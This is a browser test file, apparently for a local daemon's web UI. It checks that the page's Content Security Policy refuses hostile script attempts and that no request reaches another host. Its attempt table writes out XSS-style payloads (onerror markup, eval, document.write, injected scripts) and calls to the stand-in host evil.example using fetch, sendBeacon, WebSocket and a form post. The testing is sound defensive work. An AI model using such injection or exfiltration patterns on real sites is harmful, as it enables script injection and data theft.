// What a hostile script could try within the page is refused by the browser, by the page's own policy.
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchedBrowser, NO_BROWSER, openedPage } from "../support/browser.ts";
import { daemonHomes } from "../support/daemon.ts";
import { furnished } from "../support/furnished.ts";
import { saveReport } from "../support/page-report.ts";
import { TOUR } from "../support/page-tour.ts";

const newHome = daemonHomes();
const ELSEWHERE = "https://evil.example";
const put = (tag: string, set: string) =>
  `const one = document.createElement("${tag}"); ${set}; document.body.append(one);`;

/** Later where the browser driver itself may do it. Each would set `hit`, or reach another host; by the rule of the policy that refuses it. */
const ATTEMPTS: readonly (readonly [what: string, script: string, rule: string])[] = [
  ["markup from text", put("p", "one.innerHTML = '<img src=x onerror=hit=1>'"), "require-trusted-types-for"],
  ["an inline script", put("script", "one.textContent = 'hit=1'"), "require-trusted-types-for"],
  ["a script from elsewhere", put("script", `one.src = "${ELSEWHERE}/a.js"`), "require-trusted-types-for"],
  ["eval", "setTimeout(() => eval('hit=1'))", "require-trusted-types-for"],
  ["a function from text", "setTimeout(() => new Function('hit=1')())", "require-trusted-types-for"],
  ["a timer with text", "setTimeout('hit=1')", "require-trusted-types-for"],
  ["document.write", "document.write('<script>hit=1</script>')", "require-trusted-types-for"],
  ["a policy of its own for types", "trustedTypes.createPolicy('own', {})", "trusted-types"],
  [
    "a handler as an attribute",
    put("p", "one.setAttribute('onclick', 'hit=1')"),
    "require-trusted-types-for",
  ],
  ["a worker", "new Worker('data:text/javascript,hit=1')", "require-trusted-types-for"],
  ["an image from elsewhere", put("img", `one.src = "${ELSEWHERE}/a.png"`), "img-src"],
  ["a frame", put("iframe", `one.src = "${ELSEWHERE}/"`), "frame-src"],
  ["an object", put("object", `one.data = "/ui/icon.svg"`), "require-trusted-types-for"],
  [
    "a style sheet from elsewhere",
    put("link", `one.rel = "stylesheet"; one.href = "${ELSEWHERE}/a.css"`),
    "style-src-elem",
  ],
  ["an inline style sheet", put("style", "one.textContent = 'body { display: none }'"), "style-src-elem"],
  ["a style as an attribute", put("p", "one.setAttribute('style', 'color: red')"), "style-src-attr"],
  ["a request", `fetch("${ELSEWHERE}/").catch(() => undefined)`, "connect-src"],
  ["a beacon", `navigator.sendBeacon("${ELSEWHERE}/", "x")`, "connect-src"],
  ["a web socket", `new WebSocket("wss://evil.example/")`, "connect-src"],
  ["an event source", `new EventSource("${ELSEWHERE}/")`, "connect-src"],
  ["another base", put("base", `one.href = "${ELSEWHERE}/"`), "base-uri"],
  [
    "a form",
    `${put("form", `one.action = "${ELSEWHERE}/"; one.method = "post"`)} one.submit();`,
    "form-action",
  ],
];

/** The rules that were broken since the page was opened. */
async function refusals(page: Page): Promise<string[]> {
  await page.evaluate("new Promise((done) => setTimeout(done, 100))");
  return page.evaluate<string[]>("globalThis.refused.splice(0)");
}

const KINDS = ["/ui/", "/ui/icon.svg", "/ui/enter?code=none", "/ui/nothing", "/ui/operations/status"];

describe.skipIf(NO_BROWSER)(NO_BROWSER ?? "the content policy in a browser", () => {
  let browser: Browser;
  const report: Record<string, unknown> = {};
  beforeAll(async () => {
    browser = await launchedBrowser();
  });
  afterAll(async () => {
    saveReport("page-policy", { browser: browser?.version(), ...report });
    await browser?.close();
  });

  async function listening() {
    const home = await furnished(newHome());
    const opened = await openedPage(browser, home);
    await opened.page.addInitScript({
      content: `globalThis.refused = [];
      addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));`,
    });
    await opened.page.reload();
    await opened.page.getByRole("navigation", { name: "Pages" }).waitFor();
    return opened;
  }

  test("each way of a hostile script is refused, and no request leaves", async () => {
    const { page, elsewhere } = await listening();
    const stopped: string[] = [];
    page.on("requestfailed", (request) => {
      if (request.failure()?.errorText === "csp") stopped.push(request.url());
    });
    const outcomes: Record<string, string> = {};
    for (const [what, script, rule] of ATTEMPTS) {
      const thrown = await page.evaluate<string>(
        `(() => { try { ${script} } catch (error) { return error.name; } return ""; })()`,
      );
      const broken = await refusals(page);
      outcomes[what] = broken.includes(rule) ? rule : `not refused by ${rule}: ${broken} ${thrown}`;
    }
    report.attempts = outcomes;
    expect(outcomes).toEqual(Object.fromEntries(ATTEMPTS.map(([what, , rule]) => [what, rule])));
    expect(await page.evaluate("'hit' in globalThis")).toBe(false);
    // The driver tells of requests that the policy stopped, too.
    expect(elsewhere.filter((address) => !stopped.includes(address))).toEqual([]);
  });

  test("the page itself breaks no rule of its policy, on no page and in no dialog", async () => {
    const { page, elsewhere } = await listening();
    const broken: string[] = [];
    for (const { name, reach } of TOUR) {
      await reach(page);
      broken.push(...(await refusals(page)).map((rule) => `${name}: ${rule}`));
    }
    report.stops = TOUR.length;
    report.brokenByThePage = broken;
    expect(broken).toEqual([]);
    expect(elsewhere).toEqual([]);
  });

  test("every answer carries the policy, also a refusal", async () => {
    const { page } = await listening();
    const policies = await page.evaluate<(string | null)[]>(
      `Promise.all(${JSON.stringify(KINDS)}.map((path) => fetch(path).then(({ headers }) => headers.get("content-security-policy"))))`,
    );
    report.policy = policies[0]?.split("; ");
    report.answers = KINDS;
    expect(new Set(policies).size).toBe(1);
    expect(policies[0]).toContain("default-src 'none'");
  });
});
